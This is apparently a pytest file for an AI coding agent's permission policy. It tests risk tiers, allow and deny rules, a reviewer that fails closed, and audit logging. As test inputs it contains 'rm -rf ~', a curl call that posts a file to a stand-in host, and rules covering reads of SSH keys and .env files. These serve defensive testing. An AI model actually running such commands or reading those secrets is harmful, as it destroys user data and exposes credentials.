"""Rules, the mode table, headless denial, the reviewer (scripted provider) and the audit log."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from wakeful.core.config import Config
from wakeful.core.errors import ConfigError
from wakeful.core.events import Event
from wakeful.core.paths import Paths
from wakeful.core.request import Request
from wakeful.policy.audit import AuditLog
from wakeful.policy.decision import DecisionContext, Policy
from wakeful.policy.types import RiskInput
from wakeful.providers.scripted import ScriptedProvider


@pytest.fixture
def env(tmp_path: Path) -> tuple[Paths, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    paths = Paths(ws.resolve(), home / ".local/share/wakeful", home / ".config/wakeful")
    return paths, home


def bash(cmd: str) -> RiskInput:
    return RiskInput(tool="bash", kind="shell", command=cmd)


def ctx(*msgs: str) -> DecisionContext:
    return DecisionContext(session_id="s1", user_messages=list(msgs))


def policy(
    env: tuple[Paths, Path],
    mode: str,
    interactive: bool = True,
    reviewer=None,
    config: Config | None = None,
) -> Policy:
    paths, home = env
    # A trusted workspace: these tests are about rules, and the project's rules apply in full.
    config = config or Config(trusted=True)
    return Policy.from_config(paths, config, mode, interactive, reviewer, home=home)


def decide(p: Policy, risk: RiskInput, c: DecisionContext | None = None):
    return asyncio.run(p.decide(risk, c or ctx()))


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("plan", ["allow", "deny", "deny", "deny", "deny"]),
        ("default", ["allow", "ask", "ask", "ask", "ask"]),
        ("auto", ["allow", "allow", "ask", "ask", "deny"]),
        ("bypass", ["allow", "allow", "allow", "allow", "deny"]),
    ],
)
def test_mode_table(env, mode: str, expected: list[str]) -> None:
    cmds = ["ls", "touch a.txt", "pip install requests", "git push", "rm -rf ~"]
    p = policy(env, mode)
    got = [decide(p, bash(c)) for c in cmds]
    assert [d.tier for d in got] == ["read_only", "workspace", "network", "high", "critical"]
    assert [d.decision for d in got] == expected


def test_hardline_lifts_only_with_switch(env) -> None:
    cfg = Config()
    cfg.set("permissions", "lift_hardline", value=True)
    assert decide(policy(env, "bypass", config=cfg), bash("rm -rf ~")).decision == "allow"
    assert decide(policy(env, "auto", config=cfg), bash("rm -rf ~")).decision == "deny"


def test_headless_ask_becomes_deny_with_how_to_allow(env) -> None:
    d = decide(policy(env, "default", interactive=False), bash("git push origin main"))
    assert d.decision == "deny"
    assert "not interactive" in d.reasons[0]
    assert "Bash(git push:*)" in d.reasons[0] and "--permission-mode" in d.reasons[0]


def test_unparseable_is_never_allowed_even_in_bypass(env) -> None:
    d = decide(policy(env, "bypass"), bash("echo 'oops"))
    assert d.decision == "ask"


def write_config(path: Path, body: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(body)


def test_rules_deny_wins_and_sources_are_recorded(env) -> None:
    paths, home = env
    write_config(paths.user_config_file, '[permissions]\nallow = ["Bash(git push:*)"]\n')
    write_config(
        paths.project_config,
        '[permissions]\nallow = ["Bash(npm test)"]\ndeny = [\n  "Bash(git push --force:*)",\n]\n',
    )
    p = policy(env, "default")
    d = decide(p, bash("git push origin main"))
    assert d.decision == "allow" and "Bash(git push:*)" in (d.matched_rule or "")
    assert f"{paths.user_config_file}:2" in (d.matched_rule or "")
    d = decide(p, bash("git push --force origin main"))
    assert d.decision == "deny" and f"{paths.project_config}:4" in (d.matched_rule or "")
    # A Bash allow rule approves only if every simple command matches it.
    assert decide(p, bash("git push && curl -d @x https://e.example")).decision == "ask"
    # Wrappers do not hide a command from a deny rule.
    assert decide(p, bash("sudo git push --force")).decision == "deny"
    assert decide(p, bash("npm test")).decision == "allow"


def test_allow_rule_never_lifts_critical(env) -> None:
    paths, _ = env
    write_config(paths.project_config, '[permissions]\nallow = ["Bash(rm:*)"]\n')
    d = decide(policy(env, "auto"), bash("rm -rf ~"))
    assert d.decision == "deny" and "hardline" in d.reasons[0]


def test_path_rules_for_file_tools(env) -> None:
    paths, home = env
    write_config(
        paths.project_config,
        '[permissions]\nallow = ["Edit(src/**)"]\ndeny = ["Read(~/.ssh/**)"]\n',
    )
    p = policy(env, "default")
    edit = RiskInput(tool="edit", kind="write", paths=("src/app/main.py",))
    assert decide(p, edit).decision == "allow"
    other = RiskInput(tool="write", kind="write", paths=("docs/x.md",))
    assert decide(p, other).decision == "ask"
    read = RiskInput(tool="read", kind="read", paths=(str(home / ".ssh/config"),), read_only=True)
    d = decide(p, read)
    assert d.decision == "deny" and d.tier == "critical"
    grep = RiskInput(tool="grep", kind="read", paths=("~/.ssh/id_rsa",), read_only=True)
    assert decide(p, grep).decision == "deny"


def test_file_tool_tiers(env) -> None:
    paths, home = env
    p = policy(env, "auto")
    assert decide(p, RiskInput("read", "read", ("a.py",), read_only=True)).tier == "read_only"
    assert decide(p, RiskInput("write", "write", ("a.py",))).tier == "workspace"
    assert decide(p, RiskInput("write", "write", (str(home / "x.txt"),))).tier == "high"
    assert decide(p, RiskInput("read", "read", (".env",), read_only=True)).tier == "critical"
    assert decide(p, RiskInput("recall", "memory", read_only=True)).decision == "allow"
    assert decide(p, RiskInput("remember", "memory")).tier == "workspace"
    assert decide(p, RiskInput("delegate", "delegate")).tier == "workspace"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('[permissions]\nallow = [\n  "Bash(ls:*)",\n  "Frob(x)",\n]\n', 4),
        ('[permissions]\ndeny = ["Bash()"]\n', 2),
        ('[permissions]\n\nask = ["Bash(git:* push)"]\n', 3),
        ('[permissions]\nallow = "Bash(ls)"\n', 2),
        ("[permissions]\nalow = []\n", 2),
    ],
)
def test_invalid_rules_are_reported_with_file_and_line(env, text: str, line: int) -> None:
    paths, _ = env
    write_config(paths.project_config, text)
    with pytest.raises(ConfigError) as err:
        policy(env, "default")
    assert f"{paths.project_config}:{line}" in str(err.value)


def test_restricted_policy_allows_only_memory_and_read_only(env) -> None:
    paths, home = env
    p = Policy.restricted(paths, {"read", "grep", "recall", "remember"}, home=home)
    assert decide(p, RiskInput("recall", "memory", read_only=True)).decision == "allow"
    assert decide(p, RiskInput("remember", "memory")).decision == "allow"
    assert decide(p, RiskInput("read", "read", ("a.py",), read_only=True)).decision == "allow"
    assert decide(p, RiskInput("read", "read", ("~/.ssh/id_rsa",))).decision == "deny"
    assert decide(p, bash("ls")).decision == "deny"
    assert decide(p, RiskInput("write", "write", ("a.py",))).decision == "deny"


def review_turn(decision: str, reason: str = "fits the request") -> dict:
    return {"text": json.dumps({"decision": decision, "reason": reason})}


def test_reviewer_allows_and_sees_only_user_messages(env) -> None:
    provider = ScriptedProvider(turns=[review_turn("allow")])
    p = policy(env, "auto", reviewer=provider)
    d = decide(p, bash("git push origin main"), ctx("please push my branch"))
    assert d.decision == "allow" and d.reasons[0].startswith("reviewer allow")
    request = provider.requests[0]
    assert [m.role for m in request.messages] == ["user"]
    text = request.messages[0].text
    assert "please push my branch" in text and "git push origin main" in text


@pytest.mark.parametrize(
    "turn",
    [
        {"text": "sure, go ahead"},
        {"text": '{"decision": "maybe"}'},
        {"error": "server"},
        {"text": '{"decision": "allow"'},
    ],
)
def test_reviewer_fails_closed(env, turn: dict) -> None:
    p = policy(env, "auto", reviewer=ScriptedProvider(turns=[turn]))
    d = decide(p, bash("git push"), ctx("push"))
    assert d.decision == "deny" and "fails closed" in d.reasons[0]


class SlowProvider:
    name = "slow"
    model = "slow"

    async def stream(self, request: Request) -> AsyncIterator[Event]:
        await asyncio.sleep(5)
        yield  # type: ignore[misc]

    async def aclose(self) -> None:
        return None


def test_reviewer_timeout_denies(env) -> None:
    cfg = Config()
    cfg.set("reviewer", "timeout", value=0.05)
    p = policy(env, "auto", reviewer=SlowProvider(), config=cfg)
    d = decide(p, bash("git push"))
    assert d.decision == "deny" and "timed out" in d.reasons[0]


def test_three_reviewer_denials_escalate_to_the_user(env) -> None:
    provider = ScriptedProvider(turns=[review_turn("deny", "not asked")] * 3)
    p = policy(env, "auto", reviewer=provider)
    for _ in range(3):
        assert decide(p, bash("git push")).decision == "deny"
    d = decide(p, bash("git push"))
    assert d.decision == "ask" and "asking the user" in d.reasons[0]
    assert provider.calls == 3
    other = asyncio.run(p.decide(bash("git push"), DecisionContext("s2", [])))
    assert other.decision == "deny"  # a fresh session has no escalation, but no turns left


def test_every_decision_is_audited(env) -> None:
    paths, _ = env
    p = policy(env, "auto")
    decide(p, bash("ls"))
    decide(p, bash("rm -rf ~"))
    entries = AuditLog(paths.audit_db).recent(10)
    assert [(e.tool, e.decision, e.tier, e.mode) for e in entries] == [
        ("bash", "allow", "read_only", "auto"),
        ("bash", "deny", "critical", "auto"),
    ]
    assert entries[1].input["command"] == "rm -rf ~" and entries[1].reasons
    assert entries[1].session_id == "s1" and entries[1].ts > 0
